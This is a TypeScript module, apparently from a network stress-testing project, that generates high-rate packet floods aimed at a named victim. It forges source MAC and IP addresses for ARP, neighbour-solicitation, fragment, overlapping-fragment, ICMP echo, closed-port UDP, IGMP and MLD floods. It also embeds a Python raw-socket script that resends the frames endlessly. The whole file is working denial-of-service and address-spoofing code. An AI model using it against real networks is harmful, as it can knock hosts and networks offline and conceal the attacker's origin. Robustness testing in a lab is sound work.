/**
 * Frames of floods by the hundred thousand, each from another forged sender: made from templates, with right checksums, and
 * sent by a loop of nothing but system calls. The tools at hand (mausezahn, netsniff-ng, nping) send some ten thousand a second.
 */
import { seededRandom } from "../../index.ts";
import {
  bytes,
  ETHERTYPE,
  ethernet,
  internetChecksum,
  ipv4,
  ipv6,
  ipv6Address,
  PROTOCOL,
  u16,
  u32,
  udp,
} from "./packets.ts";

/** Whom a flood is for: Ethernet address and addresses, as the packet builders take them. */
export interface Victim {
  readonly mac: readonly number[];
  readonly ipv4: string;
  readonly ipv6: string;
}

/** Frame number `n` of a flood. The same bytes are given again, changed. */
export type Flood = (n: number) => Uint8Array;

const MAC_BYTES = 6;
const SOURCE_MAC = MAC_BYTES;
const HEADER = 2 * MAC_BYTES + 2;
const V4_ID = HEADER + 4;
const V4_CHECKSUM = HEADER + 10;
const V4_SOURCE = HEADER + 12;
const V4_PAYLOAD = HEADER + 20;
const V6_SOURCE_LOW = HEADER + 16;
const V6_PAYLOAD = HEADER + 40;
const ARP_SENDER_MAC = HEADER + 8;
const ARP_SENDER = ARP_SENDER_MAC + MAC_BYTES;
/** Type, code, checksum, reserved, target, then the option with two bytes before the address. */
const NS_CHECKSUM = V6_PAYLOAD + 2;
const NS_OPTION_MAC = V6_PAYLOAD + 24 + 2;
const UDP_PORT = V4_PAYLOAD + 2;
const FORGED_NETWORK = 0x0a4d_0000;
const HOST_MASK = 0xffff;
/** Neither ours nor the broadcast address. */
const FIRST_FORGED = 0x100;
const FORGED_MASK = 0x7eff;

const sumOf = (view: DataView, from: number, to: number, start = 0): number => {
  let sum = start;
  for (let at = from; at + 1 < to; at += 2) sum += view.getUint16(at);
  return sum;
};

const folded = (sum: number): number => {
  let left = sum;
  while (left > 0xffff) left = (left & 0xffff) + Math.floor(left / 0x10000);
  return ~left & 0xffff;
};

const inFrame = (template: Uint8Array) => ({ frame: template, view: new DataView(template.buffer) });

/** Each of IPv4 gets another source of 10.77.0.0/16, another Ethernet address and another identification. */
const forged4 = (
  template: Uint8Array,
  seed: number,
  change: (view: DataView, n: number) => void = () => {},
): Flood => {
  const { frame, view } = inFrame(template);
  const random = seededRandom(seed);
  return (n) => {
    const host = FIRST_FORGED + (random.next() & FORGED_MASK);
    view.setUint32(SOURCE_MAC, 0x0277_0000);
    view.setUint16(SOURCE_MAC + 4, host & HOST_MASK);
    view.setUint32(V4_SOURCE, (FORGED_NETWORK | (host & HOST_MASK)) >>> 0);
    view.setUint16(V4_ID, random.next() & 0xffff);
    change(view, n);
    view.setUint16(V4_CHECKSUM, 0);
    view.setUint16(V4_CHECKSUM, folded(sumOf(view, HEADER, V4_PAYLOAD)));
    return frame;
  };
};

/** ARP requests for the victim from everybody in 10.77.0.0/16. */
const arpRequests = ({ mac, ipv4: to }: Victim): Flood => {
  const packet = bytes(
    u16(1),
    u16(ETHERTYPE.ipv4),
    [6, 4],
    u16(1),
    Array<number>(10).fill(0),
    Array<number>(6).fill(0),
    to.split(".").map(Number),
  );
  const { frame, view } = inFrame(ethernet(ETHERTYPE.arp, packet, { to: mac, from: [2, 0, 0, 0, 0, 0] }));
  const random = seededRandom(1);
  return () => {
    const host = random.next() & HOST_MASK;
    for (const at of [SOURCE_MAC, ARP_SENDER_MAC]) {
      view.setUint16(at, 0x0266);
      view.setUint32(at + 2, random.next());
    }
    view.setUint32(ARP_SENDER, (FORGED_NETWORK | host) >>> 0);
    return frame;
  };
};

/** Neighbour solicitations for the victim from everybody on its network. */
const solicitations = ({ mac, ipv6: to }: Victim): Flood => {
  const target = ipv6Address(to);
  const message = bytes([135, 0], u16(0), u32(0), target, [1, 1], Array<number>(MAC_BYTES).fill(0));
  const packet = ipv6({ from: "fd77::1", to, next: PROTOCOL.icmp6 }, message);
  packet[7] = 255;
  const { frame, view } = inFrame(ethernet(ETHERTYPE.ipv6, packet, { to: mac, from: [2, 0, 0, 0, 0, 0] }));
  const random = seededRandom(2);
  return () => {
    for (const at of [SOURCE_MAC, NS_OPTION_MAC]) {
      view.setUint16(at, 0x0266);
      view.setUint32(at + 2, random.next());
    }
    view.setUint32(V6_SOURCE_LOW, random.next());
    view.setUint32(V6_SOURCE_LOW + 4, random.next());
    view.setUint16(NS_CHECKSUM, 0);
    const pseudo = sumOf(view, HEADER + 8, V6_PAYLOAD, message.length + PROTOCOL.icmp6);
    view.setUint16(NS_CHECKSUM, folded(sumOf(view, V6_PAYLOAD, frame.length, pseudo)));
    return frame;
  };
};

const FRAGMENT = Array.from({ length: 64 }, (_, i) => i);
const MORE_FRAGMENTS = 0x2000;
const FRAGMENT_FIELD = V4_ID + 2;

/** First fragments of datagrams whose rest never comes. */
const fragments = ({ mac, ipv4: to }: Victim): Flood => {
  const packet = ipv4(
    { from: "10.77.1.1", to, protocol: PROTOCOL.udp, moreFragments: true },
    udp(9, FRAGMENT.slice(8)),
  );
  return forged4(ethernet(ETHERTYPE.ipv4, packet, { to: mac }), 3);
};

/** Pairs of fragments that overlap. */
const overlapping = (victim: Victim): Flood => {
  const { mac, ipv4: to } = victim;
  const packet = ipv4({ from: "10.77.1.1", to, protocol: PROTOCOL.udp, moreFragments: true }, FRAGMENT);
  const first = forged4(ethernet(ETHERTYPE.ipv4, packet, { to: mac }), 4, (view) =>
    view.setUint16(FRAGMENT_FIELD, MORE_FRAGMENTS),
  );
  let frame: Uint8Array = first(0);
  return (n) => {
    if (n % 2 === 0) return (frame = first(n));
    const view = new DataView(frame.buffer);
    // Eight bytes into the one before.
    view.setUint16(FRAGMENT_FIELD, MORE_FRAGMENTS | 1);
    view.setUint16(V4_CHECKSUM, 0);
    view.setUint16(V4_CHECKSUM, folded(sumOf(view, HEADER, V4_PAYLOAD)));
    return frame;
  };
};

/** Echo requests. */
const echoes = ({ mac, ipv4: to }: Victim): Flood => {
  const message = bytes([8, 0], u16(0), u16(1), u16(1), FRAGMENT);
  message.set(u16(internetChecksum(message)), 2);
  return forged4(
    ethernet(ETHERTYPE.ipv4, ipv4({ from: "10.77.1.1", to, protocol: PROTOCOL.icmp }, message), { to: mac }),
    5,
  );
};

/** Datagrams for one port after another that nobody has opened. */
const closedPorts = ({ mac, ipv4: to }: Victim): Flood => {
  const packet = ipv4({ from: "10.77.1.1", to, protocol: PROTOCOL.udp }, udp(0, FRAGMENT));
  return forged4(ethernet(ETHERTYPE.ipv4, packet, { to: mac }), 6, (view, n) =>
    view.setUint16(UDP_PORT, 10_000 + (n % 50_000)),
  );
};

/** General queries of IGMPv3, to everybody. */
const igmpQueries = (): Flood => {
  const message = bytes([0x11, 1], u16(0), u32(0), [2, 125], u16(0));
  message.set(u16(internetChecksum(message)), 2);
  const packet = ipv4({ from: "10.77.1.1", to: "224.0.0.1", protocol: 2, options: [148, 4, 0, 0] }, message);
  packet[8] = 1;
  const template = ethernet(ETHERTYPE.ipv4, packet, { to: [1, 0, 0x5e, 0, 0, 1] });
  const { frame, view } = inFrame(template);
  return (n) => {
    view.setUint16(V4_SOURCE + 2, 0x100 | (n & 0xff));
    view.setUint16(V4_CHECKSUM, 0);
    view.setUint16(V4_CHECKSUM, folded(sumOf(view, HEADER, V4_PAYLOAD + 4)));
    return frame;
  };
};

/** General queries of MLDv2, to everybody. */
const mldQueries = (): Flood => {
  const message = bytes([130, 0], u16(0), u16(100), u16(0), Array<number>(16).fill(0), [2, 125], u16(0));
  const hopByHop = bytes([PROTOCOL.icmp6, 0], [5, 2, 0, 0, 1, 0]);
  const packet = ipv6({ from: "fe80::1", to: "ff02::1", next: PROTOCOL.hopByHop }, bytes(hopByHop, message));
  packet[7] = 1;
  const { frame, view } = inFrame(ethernet(ETHERTYPE.ipv6, packet, { to: [0x33, 0x33, 0, 0, 0, 1] }));
  const at = V6_PAYLOAD + hopByHop.length;
  return (n) => {
    view.setUint32(V6_SOURCE_LOW + 4, n + 1);
    view.setUint16(at + 2, 0);
    const pseudo = sumOf(view, HEADER + 8, V6_PAYLOAD, message.length + PROTOCOL.icmp6);
    view.setUint16(at + 2, folded(sumOf(view, at, frame.length, pseudo)));
    return frame;
  };
};

/** The floods by name. */
export const FLOODS = {
  "ARP requests": arpRequests,
  "neighbour solicitations": solicitations,
  "fragments without the rest": fragments,
  "overlapping fragments": overlapping,
  "echo requests": echoes,
  "datagrams to closed ports": closedPorts,
  "IGMP queries": igmpQueries,
  "MLD queries": mldQueries,
} as const satisfies Readonly<Record<string, (victim: Victim) => Flood>>;

/** The first `count` frames of a flood, each behind its length in two bytes, for `sender`. */
export const frameFile = (flood: Flood, count: number): Uint8Array => {
  const parts: Uint8Array[] = [];
  for (let n = 0; n < count; n++) {
    const frame = flood(n);
    parts.push(Uint8Array.from(u16(frame.length)), frame.slice());
  }
  return new Uint8Array(Buffer.concat(parts));
};

/** Sends the frames of a file out of an interface, over and over, as fast as one process can. */
const SENDER = `
import socket, sys
data = open(sys.argv[1], "rb").read()
frames, at = [], 0
while at < len(data):
    length = int.from_bytes(data[at:at + 2], "big")
    frames.append(data[at + 2:at + 2 + length])
    at += 2 + length
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((sys.argv[2], 0))
send = out.send
while True:
    for frame in frames:
        try:
            send(frame)
        except OSError:
            pass
`;

/** The words of a program that sends the frames of `file` out of an interface until it is ended. */
export const sender = (file: string, interfaceName: string): string[] => [
  "python3",
  "-c",
  SENDER,
  file,
  interfaceName,
];
